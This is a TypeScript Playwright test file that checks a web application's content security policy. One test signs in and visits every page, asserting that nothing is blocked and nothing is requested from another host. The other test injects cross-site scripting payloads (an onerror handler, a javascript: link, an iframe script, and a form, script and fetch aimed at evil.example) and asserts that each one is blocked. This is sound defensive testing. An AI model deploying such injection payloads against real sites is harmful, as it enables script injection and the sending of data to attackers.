import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { hasBrowser, launchBrowser, NO_BROWSER, openPage } from '../support/browser';
import { PASSWORD, startTestApp, type TestApp } from '../support/test-app';

const describeInBrowser = hasBrowser ? describe : describe.skip;
if (!hasBrowser) console.warn(`The policy of the pages is not tested: ${NO_BROWSER}.`);

/** The paths of every page of the application; `:id` is a user. */
const PATHS = [...readFileSync(join(__dirname, '../../web/src/pages.ts'), 'utf8').matchAll(/path: '([^']+)'/g)].map(
  ([, path = '']) => path,
);

describeInBrowser('The pages in Chromium, under their content security policy', () => {
  let app: TestApp;
  let browser: Browser;
  let adminId: string;

  beforeAll(async () => {
    app = await startTestApp({ NODE_ENV: 'development' });
    const token = await app.adminToken('root');
    adminId = (await app.graphql('{ me { id } }', { token })).data.me.id;
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await app?.stop();
  });

  test('nothing of them is blocked, and nothing is requested from another machine', async () => {
    const { page, complaints, outside } = await openPage(browser);
    const refused: string[] = [];
    page.on('response', (response) => {
      // GraphQL answers some of its errors with a status above 399, and the pages show them.
      if (response.status() >= 400 && !response.url().endsWith('/graphql')) refused.push(response.url());
    });
    await page.goto(`${app.url}/account/sign-in`);
    await page.getByLabel(/Username/).fill('root');
    await page.getByLabel(/^Password/).fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.waitForURL(`${app.url}/account`);
    expect(PATHS.length).toBeGreaterThan(15);
    for (const path of PATHS) {
      await page.goto(app.url + path.replace(/:\w+/, adminId));
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      // The data of the page has come.
      await page.waitForLoadState('networkidle');
    }
    expect(outside).toEqual([]);
    expect(refused).toEqual([]);
    // Chromium reports every answer above 399.
    expect(complaints.filter((text) => !text.startsWith('Failed to load resource'))).toEqual([]);
  });

  test('an injected script, handler, style and frame do nothing', async () => {
    const { page, complaints } = await openPage(browser);
    await page.goto(`${app.url}/account/sign-in`);
    await page.getByLabel(/Username/).waitFor();
    const changed = await page.evaluate(async () => {
      const markup = document.createElement('div');
      markup.innerHTML =
        '<img src="x:" onerror="window.hacked = 1"><a id="trap" href="javascript:window.hacked = 1">x</a>' +
        '<style>body { color: rgb(1, 2, 3) }</style><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>' +
        '<form id="form" action="https://evil.example/" method="post"><input name="a"></form><base href="https://evil.example/">';
      document.body.append(markup);
      for (const source of ['data:text/javascript,window.hacked = 1', 'https://evil.example/x.js']) {
        document.head.append(Object.assign(document.createElement('script'), { src: source }));
      }
      document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }));
      document.querySelector<HTMLElement>('#trap')?.click();
      document.querySelector<HTMLFormElement>('#form')?.requestSubmit();
      const sent = await fetch('https://evil.example/').then(
        () => true,
        () => false,
      );
      const evaluated = await import('data:text/javascript,window.hacked = 1' as string).then(
        () => true,
        () => false,
      );
      await new Promise((resolve) => setTimeout(resolve, 200));
      return {
        sent,
        evaluated,
        hacked: (window as { hacked?: number }).hacked,
        color: getComputedStyle(document.body).color,
        base: document.baseURI.startsWith(location.origin),
      };
    });
    expect(changed).toEqual({
      sent: false,
      evaluated: false,
      hacked: undefined,
      color: expect.any(String),
      base: true,
    });
    expect(changed.color).not.toBe('rgb(1, 2, 3)');
    expect(page.url()).toBe(`${app.url}/account/sign-in`);
    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(5);
  });
});
